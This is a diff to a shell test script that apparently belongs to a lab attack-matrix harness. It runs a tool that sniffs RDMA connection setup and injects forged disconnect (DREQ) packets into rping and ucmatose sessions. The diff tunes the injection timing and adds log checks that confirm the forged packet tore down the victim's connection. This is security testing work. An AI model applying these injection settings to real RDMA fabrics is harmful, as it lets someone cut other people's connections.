@@ -33,14 +33,56 @@ cell_cm_blind() {
 	esac
 }
 
+# _cell_cm_order: after the forged DREQ (sent to the client), polls the
+# victim's logs for up to $1 seconds and decides which side began to end the
+# connection first. The client's disconnect counts only if its server, the
+# only legitimate sender of a DREQ, still runs and has not begun to end the
+# connection itself. Sets CELL_CM_CLIENT ('' if the client showed nothing) and
+# CELL_CM_SERVER (what the server had shown by then, '' if nothing) and
+# CELL_CM_AT (SECONDS when the client showed it); returns 0 when the client
+# went first.
+#   rping: the client prints "client DISCONNECT EVENT" (its CM thread reads
+#   events at once); the server would print its own DISCONNECT or an error.
+#   ucmatose: reads CM events only after its transfers, then answers a
+#   DISCONNECTED with rdma_disconnect and exits ("test complete"); its server
+#   sends the only real DREQ after it received every reply ("data transfers
+#   complete"), so a client that ends before that line took a forged one.
+_cell_cm_order() {
+	local end=$((SECONDS + $1)) cre sre
+	case "$VICTIM" in
+	rping) cre='client DISCONNECT EVENT' sre='server DISCONNECT EVENT|rping server failed|cq completion failed|wait for' ;;
+	*) cre='^test complete' sre='data transfers complete|cmatose: disconnecting|^test complete' ;;
+	esac
+	CELL_CM_CLIENT='' CELL_CM_SERVER=''
+	while [ $SECONDS -lt $end ]; do
+		# The client first, then the server: a server line still absent
+		# after the client's was seen was not written before it.
+		CELL_CM_CLIENT=$(victim_grep "$VICTIM_CLIENT_LOG" "$cre") && CELL_CM_AT=$SECONDS
+		CELL_CM_SERVER=$(victim_grep "$VICTIM_SERVER_LOG" "$sre") ||
+			{ kill -0 "$VICTIM_SERVER_PID" 2>/dev/null || CELL_CM_SERVER="server ended"; }
+		[ -n "$CELL_CM_CLIENT" ] || [ -n "$CELL_CM_SERVER" ] && break
+		sleep 0.1
+	done
+	[ -n "$CELL_CM_CLIENT" ] && [ -z "$CELL_CM_SERVER" ]
+}
+
 cell_cm_disconnect() {
-	local v=$1 lp line n st delay=0
-	# rping: let the pings start; ucmatose's transfer is over within a second, so at once.
-	[ "$v" = rping ] && delay=1000
+	local v=$1 lp n st t0 delay=0 opts=()
+	# rping: let the pings start. ucmatose: from the REP on, a DREQ every
+	# 0.1 s for 0.5 s: the client's CM drops one that beats its own RTU, and
+	# takes the first after it, long before the client's receive phase (128
+	# MiB) ends and it reads its CM events; later ones are duplicates.
+	# Only the cell ends these victims (a server stopped by its timeout
+	# would disconnect its client as the forged DREQ does); ucmatose's
+	# receive phase took from 2 s to over 30 s, depending on the machine's load.
+	case "$v" in
+	rping) delay=1000 VICTIM_SECONDS=40 ;;
+	ucmatose) opts=(--count 5 --interval-us 100000) VICTIM_SECONDS=80 ;;
+	esac
 	rm -f "$CELL/learn.json" "$CELL/learn.err"
 	# Listen first: the REQ/REP go by while victim_start waits for traffic.
-	fabric on 3 "$ATK" cm-disconnect --dst "$VICTIM_CLIENT_IP" --sniff fabbr --iface fab3 --timeout 8 \
-		--delay-ms $delay --json >"$CELL/learn.json" 2>"$CELL/learn.err" &
+	fabric on 3 "$ATK" cm-disconnect --dst "$VICTIM_CLIENT_IP" --sniff fabbr --iface fab3 --timeout 30 \
+		--delay-ms $delay "${opts[@]}" --json >"$CELL/learn.json" 2>"$CELL/learn.err" &
 	lp=$!
 	for _ in $(seq 1 50); do grep -q listening "$CELL/learn.err" 2>/dev/null && break; sleep 0.1; done
 	victim_start "$v" || {
@@ -52,23 +94,49 @@ cell_cm_disconnect() {
 		cell_cm_blind "$v"
 		return
 	fi
+	t0=$SECONDS
 	echo "cm-disconnect: $(cat "$CELL/learn.json")" >&2
 	# What the attacked side's CM made of the DREQ, before the victim ends.
 	rdma resource show cm_id 2>/dev/null | grep "src-addr $VICTIM_CLIENT_IP:" >"$CELL/cm_ids.txt"
-	victim_attack_done
-	victim_wait 10
-	n=$(grep -c 'ping data' "$VICTIM_CLIENT_LOG")
-	if line=$(victim_grep "$VICTIM_CLIENT_LOG" 'DISCONNECT|RDMA_CM_EVENT_DISCONNECTED|disconnect'); then
-		if [ "$v" = rping ]; then
-			line="$line after $n of 1000000 pings"
-		fi
-		matrix_result cm-disconnect "$v" succeeded "" "[h2] $line"
-	elif line=$(cell_victim_error_line); then
-		matrix_result cm-disconnect "$v" succeeded "" "$line"
-	else
-		# ucmatose reads CM events only once its transfers are done: a
-		# DISCONNECTED event queued earlier changes nothing it does.
-		st=$(sed -n 's/.* state \([A-Z_]*\) .*/\1/p' "$CELL/cm_ids.txt" | sort -u | tr '\n' ' ')
-		matrix_result cm-disconnect "$v" error "" "missed: DREQ sent (client cm_id state ${st:-unknown}after it), but the victim showed nothing and ended normally (client rc $VICTIM_CLIENT_RC: $(tail -n 1 "$VICTIM_CLIENT_LOG"))"
+	st=$(sed -n 's/.* state \([A-Z_]*\) .*/\1/p' "$CELL/cm_ids.txt" | sort -u | tr '\n' ' ')
+	st=${st% }
+	# ucmatose: logs read after that snapshot. A client still receiving and a
+	# server that has not begun to disconnect mean the DISCONNECT state came
+	# from the forged DREQ (the client's own rdma_disconnect comes after its
+	# transfer, the server's DREQ after "cmatose: disconnecting").
+	mid=0
+	[ "$v" = ucmatose ] && [ "$st" = DISCONNECT ] && ! grep -q 'sending replies' "$VICTIM_CLIENT_LOG" &&
+		! grep -Eq 'data transfers complete|cmatose: disconnecting' "$VICTIM_SERVER_LOG" && mid=1
+	echo "cm-disconnect: client cm_id ${st:-gone}, mid-transfer DISCONNECT: $mid" >&2
+	# ucmatose: only a client that got through its own transfer counts (a
+	# failed connect also ends in "test complete").
+	if _cell_cm_order 60 && { [ "$v" = rping ] || grep -q 'sending replies' "$VICTIM_CLIENT_LOG"; }; then
+		n=$(grep -c 'ping data' "$VICTIM_CLIENT_LOG")
+		victim_attack_done
+		victim_stop
+		case "$v" in
+		rping)
+			matrix_result cm-disconnect "$v" succeeded "" \
+				"[h2] $CELL_CM_CLIENT after $n of 1000000 pings, $((CELL_CM_AT - t0)) s after the forged DREQ, while [h1] still ran and had not disconnected"
+			;;
+		*)
+			matrix_result cm-disconnect "$v" succeeded "" \
+				"[h2] client cm_id ${st:-gone} after the forged DREQ; it ended (test complete) before [h1] got its replies (last: $(tail -n 1 "$VICTIM_SERVER_LOG"))"
+			;;
+		esac
+		return
 	fi
+	victim_attack_done
+	victim_stop
+	echo "cm-disconnect: client: '${CELL_CM_CLIENT}', server: '${CELL_CM_SERVER}'" >&2
+	# Both sides ended within one look (on an idle machine its server can
+	# finish as the client goes): the snapshot still shows the forged DREQ
+	# taken mid-transfer, and the client acting on it.
+	if [ $mid = 1 ] && grep -q 'sending replies' "$VICTIM_CLIENT_LOG" && grep -q '^test complete' "$VICTIM_CLIENT_LOG"; then
+		matrix_result cm-disconnect "$v" succeeded "" \
+			"[h2] client cm_id DISCONNECT while still receiving, before [h1] began to disconnect: its CM took the forged DREQ; it then ended (test complete)"
+		return
+	fi
+	matrix_result cm-disconnect "$v" error "" \
+		"undecided: DREQ sent (client cm_id ${st:-gone} after it); client showed '${CELL_CM_CLIENT:-nothing}', server '${CELL_CM_SERVER:-nothing}' first"
 }
